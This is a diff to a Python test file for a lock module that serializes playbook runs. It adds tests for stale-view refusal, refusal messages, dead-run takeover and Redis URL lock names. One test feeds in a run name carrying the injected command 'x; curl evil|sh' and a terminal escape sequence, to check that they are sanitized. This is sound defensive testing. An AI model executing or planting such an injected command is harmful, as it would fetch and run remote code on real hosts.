@@ -7,6 +7,7 @@ from __future__ import annotations
 import json
 import os
 import subprocess
+import time
 from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 from typing import Any
@@ -16,12 +17,14 @@ from hypothesis import given
 from hypothesis import strategies as st
 from lifeline import lock
 from lifeline.errors import LifelineError
+from lifeline.url import lock_name
 
 
 def ask(directory: Path, run: str, check: bool = False, **options: Any) -> dict[str, Any]:
     params = {
         "estate": "orders", "state": "held", "run": run, "who": f"{run} on control", "what": "recover.yml",
-        "stale": 900.0, "process": "", "unfinished": False, "dead_run": "", "directory": str(directory), **options,
+        "stale": 900.0, "process": "", "ended": "finished", "dead_run": "", "looked_at": 0.0,
+        "directory": str(directory), **options,
     }  # fmt: skip
     return lock.work(params, check)
 
@@ -71,8 +74,10 @@ def test_whoever_comes_after_runs_that_did_not_finish_is_told_since_when(tmp_pat
     ask(tmp_path, "alice")
     began = json.loads(lock.path_of(str(tmp_path), "orders").read_text())["since"]
     assert ask(tmp_path, "bob", dead_run="alice")["unfinished"] == began
-    assert ask(tmp_path, "bob", state="released", unfinished=True)["changed"] is True
+    assert ask(tmp_path, "bob", state="released", ended="broken_off")["changed"] is True
     assert ask(tmp_path, "carol", check=True)["unfinished"] == began
+    assert ask(tmp_path, "provision", state="held")["unfinished"] == began
+    assert ask(tmp_path, "provision", state="released", ended="as_before")["changed"] is True
     carol = ask(tmp_path, "carol")
     assert (carol["held"], carol["stale"], carol["unfinished"]) == (True, False, began)
     assert ask(tmp_path, "carol")["unfinished"] == began
@@ -92,13 +97,94 @@ def test_a_control_node_knows_its_own_dead_and_nobody_elses() -> None:
 
 def test_a_check_run_leaves_no_trace(tmp_path: Path) -> None:
     directory = tmp_path / "new"
-    told = {"changed": True, "held": True, "holder": None, "stale": False, "unfinished": 0.0}
+    told = {"changed": True, "held": True, "holder": None, "quiet": 0.0, "stale": False, "unfinished": 0.0}
+    told["who"] = "alice on control"
     assert ask(directory, "alice", check=True) == told
     assert not directory.exists()
     ask(directory, "alice")
     before = lock.path_of(str(directory), "orders").read_text()
     assert ask(directory, "bob", check=True)["held"] is False
     assert lock.path_of(str(directory), "orders").read_text() == before
+
+
+def test_A13_what_another_run_changed_meanwhile_is_not_acted_on(tmp_path: Path) -> None:
+    """Before: a run that looked at an estate while another one changed it got the lock when that one ended.
+
+    Now: it is refused, since what it saw is out of date.
+    """
+    looked = time.time()
+    assert ask(tmp_path, "bob", looked_at=looked)["held"]
+    ask(tmp_path, "bob", state="released")
+    overtaken = ask(tmp_path, "alice", looked_at=looked)
+    assert (overtaken["held"], overtaken["changed"], overtaken["holder"]) == (False, False, None)
+    assert lock.refusal("orders", [overtaken]) == (
+        "Estate orders was changed by another run while this one looked. Nothing was changed. Run this again."
+    )
+    assert ask(tmp_path, "bob", looked_at=looked)["held"], "it was the run itself"
+    ask(tmp_path, "bob", state="released")
+    assert ask(tmp_path, "alice", looked_at=time.time())["held"]
+    assert ask(tmp_path, "alice", looked_at=looked)["held"], "a run takes its own lock again"
+
+
+def test_A13_the_refusal_names_who_what_since_when_and_the_way_on() -> None:
+    """Before: a sentence in the recovery role alone; what a host wrote into its lock reached the terminal as it was.
+
+    Now: one sentence for all playbooks, and the name of a run can be pasted into a shell.
+    """
+    held = {"held": True, "holder": None}
+    holder = {"run": "c1-7-9", "who": "alice on c1", "what": "Provision every estate", "since": 0.0, "renewed": 1.0}
+    assert lock.refusal("orders", [held, held]) == ""
+    assert lock.refusal("orders", [held, {"held": False, "holder": holder}]) == (
+        "Estate orders is being changed by another run: alice on c1 started Provision every estate at "
+        "1970-01-01 00:00:00 UTC. Nothing was changed. Wait until that run ends. If you know that it died, run this "
+        "again with -e redis_dead_run=c1-7-9"
+    )
+    hostile = {**holder, "run": "x; curl evil|sh", "who": "\x1b[2J" * 99, "since": 1e300}
+    told = lock.refusal("orders", [{"held": False, "holder": hostile}])
+    assert told.endswith("-e redis_dead_run=x__curl_evil_sh") and told.isprintable() and len(told) < 500
+    for odd in (None, [], "x", {"run": 1}, {**holder, "since": "nan"}, {**holder, "since": {}}):
+        assert lock.refusal("orders", [{"held": False, "holder": odd}, odd]).startswith("Estate orders was changed")
+
+
+@pytest.mark.parametrize(
+    ("quiet", "over", "why"),
+    [
+        ("ours, alive", False, "it lives, however long it takes"),
+        ("ours, dead", True, "its process is gone"),
+        ("another's, heard", False, "nothing is known of it"),
+        ("another's, quiet", True, "it has not been heard of for long"),
+        ("container's, heard", False, "another container's processes are not seen from here"),
+    ],
+)
+def test_A13_a_lock_is_taken_over_from_the_dead_only(quiet: str, over: bool, why: str) -> None:
+    """Before: a run that took longer than 15 minutes lost its lock while it worked.
+
+    Now: not while its process lives on this control node, and only after an hour where nothing is known of it.
+    """
+    alive = lock.here(os.getpid())
+    ended = subprocess.Popen(["true"])
+    process = {
+        "ours, alive": alive,
+        "ours, dead": lock.here(ended.pid),
+        "container's, heard": alive.replace(".", ".1", 1).rpartition(":")[0] + ":1",
+    }.get(quiet, "another-boot.1:1:1")
+    ended.wait()
+    since = 9000.0 if quiet.endswith(("alive", "quiet")) else 10.0
+    assert lock.may_take_over(process, since, 3600.0) is over, why
+
+
+def test_without_root_a_lock_lies_in_a_folder_of_the_users_own(tmp_path: Path) -> None:
+    (tmp_path / "mine").mkdir()
+    (tmp_path / "link").symlink_to(tmp_path / "mine")
+    with pytest.raises(LifelineError, match="belongs to somebody else"):
+        ask(tmp_path / "link", "alice")
+    assert lock.default_directory() in ("/run/lifeline", f"/tmp/lifeline-{os.geteuid()}")
+
+
+def test_a_redis_that_is_only_a_url_is_locked_by_its_address() -> None:
+    assert lock_name("orders", "") == "orders"
+    assert lock_name("orders", "rediss://user:secret@cache.example:6380/3") == "cache.example:6380"
+    assert lock_name("orders", "unix:///run/redis.sock") == "/run/redis.sock"
 
 
 def test_estates_on_one_host_do_not_share_a_lock(tmp_path: Path) -> None:
@@ -113,7 +199,7 @@ def test_of_many_at_once_one_gets_it(tmp_path: Path) -> None:
 
 def test_a_place_that_can_not_be_written_is_one_sentence(tmp_path: Path) -> None:
     (tmp_path / "file").write_text("")
-    with pytest.raises(LifelineError, match="cannot be written on this host"):
+    with pytest.raises(LifelineError, match="cannot be used on this host"):
         ask(tmp_path / "file", "alice")
 
 
